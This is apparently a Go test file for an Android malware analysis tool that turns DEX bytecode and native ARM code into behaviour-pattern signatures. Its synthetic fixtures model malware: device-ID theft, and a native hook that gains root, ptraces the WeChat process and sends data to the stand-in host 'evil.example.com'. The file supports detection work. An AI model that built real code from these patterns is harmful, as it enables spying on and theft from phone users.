package mail

import (
	"strings"
	"testing"

	"github.com/dydroid/dydroid/internal/dex"
	"github.com/dydroid/dydroid/internal/nativebin"
)

func TestFromDexPatterns(t *testing.T) {
	b := dex.NewBuilder()
	cls := b.Class("com.mal.Payload", "java.lang.Object")
	m := cls.Method("steal", dex.ACCPublic, 6, "V")
	m.NewInstance(1, "android.telephony.TelephonyManager").
		InvokeVirtual(dex.MethodRef{Class: "android.telephony.TelephonyManager",
			Name: "getDeviceId", Sig: "()Ljava/lang/String;"}, 1).
		MoveResult(2).
		IfEqz(2, "skip").
		InvokeVirtual(dex.MethodRef{Class: "com.mal.Payload", Name: "send", Sig: "(Ljava/lang/String;)V"}, 0, 2).
		Label("skip").
		ReturnVoid().
		Done()
	cls.Method("send", dex.ACCPublic, 2, "V", "Ljava/lang/String;").ReturnVoid().Done()

	p := FromDex(b.File())
	if len(p.Functions) != 2 {
		t.Fatalf("functions = %d, want 2", len(p.Functions))
	}
	steal := p.Functions[0]
	if steal.Name != "com.mal.Payload.steal" {
		t.Fatalf("name = %q", steal.Name)
	}
	// Block 0: ASSIGN(new), LIB(getDeviceId), ASSIGN(move-result), CONTROL(if)
	if got := steal.Blocks[0].Sig(); got != "ALAC" {
		t.Fatalf("block0 sig = %q, want ALAC", got)
	}
	// There must be a CALL pattern somewhere (the app-internal send).
	found := false
	for _, blk := range steal.Blocks {
		if strings.Contains(blk.Sig(), "F") {
			found = true
		}
	}
	if !found {
		t.Fatal("no CALL pattern for app-internal invoke")
	}
	blocks := 0
	for _, f := range p.Functions {
		blocks += len(f.Blocks)
	}
	if blocks == 0 {
		t.Fatal("program has no blocks")
	}
}

func TestFromDexSkipsEmptyMethods(t *testing.T) {
	b := dex.NewBuilder()
	b.Class("a.B", "java.lang.Object").NativeMethod("n", "V")
	p := FromDex(b.File())
	if len(p.Functions) != 0 {
		t.Fatalf("native (empty) methods should be skipped, got %d functions", len(p.Functions))
	}
}

func chathookLib() *nativebin.Library {
	b := nativebin.NewBuilder("libhook.so", "arm")
	target := b.CString("com.tencent.mm")
	host := b.CString("evil.example.com")
	b.Symbol("Java_com_mal_Hook_attack").
		MovI(0, 0).
		Svc(nativebin.SysSetuid). // get root
		MovI(0, target).
		Svc(nativebin.SysFindProc).
		CmpI(0, 0).
		Blt("out").
		Svc(nativebin.SysPtrace).
		MovI(0, host).
		Svc(nativebin.SysConnect).
		MovR(3, 0).
		MovI(1, nativebin.DataBase).
		MovI(2, 4).
		MovR(0, 3).
		Svc(nativebin.SysSend).
		Label("out").
		Ret()
	return b.Build()
}

func TestFromNativePatterns(t *testing.T) {
	p := FromNative(chathookLib())
	if len(p.Functions) != 1 {
		t.Fatalf("functions = %d, want 1", len(p.Functions))
	}
	fn := p.Functions[0]
	if fn.Name != "Java_com_mal_Hook_attack" {
		t.Fatalf("name = %q", fn.Name)
	}
	var all strings.Builder
	for _, blk := range fn.Blocks {
		all.WriteString(blk.Sig())
		all.WriteString(" ")
	}
	sigs := all.String()
	for _, want := range []string{"L", "T", "C", "H"} {
		if !strings.Contains(sigs, want) {
			t.Fatalf("missing pattern %s in %q", want, sigs)
		}
	}
	if p.Source != "native-arm" {
		t.Fatalf("source = %q", p.Source)
	}
}

func TestFromNativeMultipleSymbols(t *testing.T) {
	b := nativebin.NewBuilder("libx.so", "arm")
	b.Symbol("f").MovI(0, 1).Ret()
	b.Symbol("g").MovI(0, 2).Bl("f").Ret()
	p := FromNative(b.Build())
	if len(p.Functions) != 2 {
		t.Fatalf("functions = %d, want 2", len(p.Functions))
	}
	if p.Functions[1].Name != "g" {
		t.Fatalf("second function = %q", p.Functions[1].Name)
	}
	// g contains a CALL.
	if !strings.Contains(p.Functions[1].Blocks[0].Sig(), "F") {
		t.Fatalf("g sig = %q", p.Functions[1].Blocks[0].Sig())
	}
}

func TestFromNativeEmpty(t *testing.T) {
	p := FromNative(&nativebin.Library{Soname: "e.so", Arch: "arm"})
	if len(p.Functions) != 0 {
		t.Fatal("empty lib produced functions")
	}
}

func TestFromNativeUnlabeledPrefix(t *testing.T) {
	// Code before the first symbol becomes a _start function.
	lib := &nativebin.Library{
		Soname: "p.so", Arch: "arm",
		Symbols: []nativebin.Symbol{{Name: "f", Entry: 2}},
		Code: []nativebin.Instr{
			{Op: nativebin.MovI, Rd: 0, Imm: 1},
			{Op: nativebin.Ret},
			{Op: nativebin.MovI, Rd: 0, Imm: 2},
			{Op: nativebin.Ret},
		},
	}
	p := FromNative(lib)
	if len(p.Functions) != 2 || p.Functions[0].Name != "_start" {
		t.Fatalf("functions = %+v", p.Functions)
	}
}
